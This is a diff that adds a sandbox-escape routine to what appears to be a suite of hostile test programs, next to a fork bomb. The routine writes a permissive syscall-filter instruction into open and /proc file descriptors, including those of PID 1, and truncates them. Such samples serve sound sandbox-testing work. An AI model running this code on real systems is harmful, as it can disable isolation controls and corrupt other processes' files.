@@ -26,6 +26,25 @@ def linger():
     time.sleep(600)
 
 
+def overwrite_descriptors():
+    """Whatever the referee left open: a filter that begins with this instruction allows every call."""
+    allow_everything = bytes([6, 0, 0, 0, 0, 0, 0xff, 0x7f])
+    for fd in range(3, 256):
+        for path in [None, f"/proc/self/fd/{fd}", f"/proc/1/fd/{fd}"]:
+            try:
+                own = os.open(path, os.O_WRONLY) if path else fd
+                os.pwrite(own, allow_everything, 0)
+                say(f"ESCAPED wrote to {path or fd}")
+            except OSError:
+                pass
+        try:
+            os.ftruncate(fd, 0)
+            say(f"ESCAPED emptied descriptor {fd}")
+        except OSError:
+            pass
+    say("held")
+
+
 def fork_bomb():
     count = 0
     try:
